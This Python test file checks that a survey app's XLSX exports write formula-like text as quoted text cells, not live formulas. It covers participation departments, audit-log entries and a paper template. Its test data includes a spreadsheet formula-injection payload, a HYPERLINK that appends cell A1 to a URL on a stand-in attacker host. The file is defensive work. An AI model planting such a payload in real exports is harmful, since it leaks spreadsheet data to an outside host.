"""XLSX exports never turn typed text into a live formula (issue 14.5): a department named
"=HYPERLINK(...)" in the participation export and an audit entry "=1+1" in the audit-log
export come out as text cells with the quote prefix; numbers stay numbers."""

from __future__ import annotations

import os
import zipfile

import pytest
from openpyxl import load_workbook

from app.reports.excel import FORMULA_STARTS, write_table

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _cells(path):
    sheet = load_workbook(path).active
    return {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}


def _no_formula_in_file(path):
    """The sheet XML itself holds no <f> element: nothing a spreadsheet would evaluate."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_risky_start_is_written_as_text(tmp_path, start):
    value = f"{start}1+1"
    path = write_table(tmp_path / "t.xlsx", "T", value, [value], [[value, 7, -2.5]], notes=[value])
    sheet = load_workbook(path).active
    risky = [c for row in sheet.iter_rows() for c in row if c.value == value]
    assert len(risky) == 4  # title, header, cell, note
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix
    assert sheet.cell(row=4, column=2).value == 7 and sheet.cell(row=4, column=2).data_type == "n"
    assert sheet.cell(row=4, column=3).value == -2.5  # a negative number stays a number
    assert not sheet.cell(row=4, column=2).quotePrefix
    _no_formula_in_file(path)


def test_participation_export_writes_a_formula_department_name_as_text(qapp, tmp_path):
    from app.data.queries import ParticipationRow
    from app.ui.item_models.rows_table_model import Column, RowsTableModel
    from app.ui.table_export import export_model

    model = RowsTableModel(
        [
            Column(lambda: "Department", lambda r: r.department_ru),
            Column(lambda: "Respondents", lambda r: r.finished),
            Column(lambda: "Headcount", lambda r: r.headcount),
        ]
    )
    model.set_rows(
        [ParticipationRow(1, LINK, LINK, 12, 9), ParticipationRow(2, "-Отдел", "-Бөлім", 8, 6)]
    )
    path = export_model(None, model, "Participation", target=tmp_path / "participation.xlsx")
    cells = _cells(path)
    for text in (LINK, "-Отдел"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    assert cells[9].data_type == "n" and cells[12].data_type == "n"  # numbers stay numbers
    _no_formula_in_file(path)


def test_audit_log_export_writes_a_formula_entry_as_text(qapp, tmp_path):
    from app.data.audit import record
    from app.data.store import open_database
    from app.ui.context import AppContext
    from app.ui.dialogs.audit_dialog import AuditDialog

    database = open_database(str(tmp_path / "office.db"))
    try:
        with database.session() as session:
            record(session, "export", "campaign", 1, "=1+1")
            record(session, "sign_in_failed", "user", "", "@SUM(1,2)")
            session.commit()
        context = AppContext(database=database, settings=None, languages=None)
        dialog = AuditDialog(context)
        path = dialog.export(tmp_path / "audit.xlsx")
        cells = _cells(path)
        assert cells["=1+1"].data_type == "s" and cells["=1+1"].quotePrefix
        assert cells["@SUM(1,2)"].quotePrefix
        _no_formula_in_file(path)
    finally:
        database.dispose()


def test_the_paper_template_protects_text_from_an_office_instrument(tmp_path):
    from dataclasses import replace

    from app.reports.template import build_template
    from app.scoring.instruments import get_instrument

    instrument = get_instrument("climate")
    item = instrument.items[0]
    risky = replace(item, text={"ru": "=1+1", "kk": "=1+1"})
    instrument = replace(instrument, items=(risky, *instrument.items[1:]))
    path = build_template(instrument, tmp_path / "template.xlsx")
    found = [
        c
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.value == "=1+1"
    ]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
    _no_formula_in_file(path)
